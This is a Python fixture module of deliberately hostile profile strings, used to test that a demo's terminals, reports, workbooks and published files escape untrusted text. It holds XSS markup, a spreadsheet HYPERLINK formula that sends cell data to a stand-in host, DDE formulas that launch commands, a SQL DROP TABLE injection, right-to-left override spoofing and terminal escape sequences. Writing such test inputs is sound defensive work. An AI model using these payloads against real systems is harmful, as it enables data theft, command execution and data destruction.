"""Texts that try to break whatever shows them, planted in every demo world.

Profiles are written by strangers. Every surface that shows one (terminal, report, workbook, published file)
is therefore exercised with markup, formulas, control characters and excessive length each time the demo runs.
"""

from __future__ import annotations

HOSTILE_HANDLE = '"><img src=x onerror=alert(1)>'
"""A handle that is markup."""

HOSTILE_NAMES = (
    '=HYPERLINK("https://steal.example/?q="&A1,"Free beans")',
    "Nora \u202egnp.exe\u202c Wickem",
    "\x1b[31mRed Alert\x1b[0m \x1b]0;owned\x07",
    "+1+cmd|' /C calc'!A0",
)
"""Display names: a formula, right-to-left override marks, terminal escapes, a second formula."""

HOSTILE_BIOS = (
    'Robert\'); DROP TABLE ranked_partners;-- likes "coffee", hills\nand commas',
    "<script>document.title='bio'</script> & friends",
    "One very long biography. " + "I could go on about grinders for ever, and I do. " * 200,
)
"""Bios: SQL with a line break, markup, and nearly ten thousand characters."""

HOSTILE_POSTS = (
    "</td><script>alert('post')</script> try this roast",
    "=cmd|'/C calc'!A1 \x1b[2J and a cleared screen",
)
"""Texts of posts."""
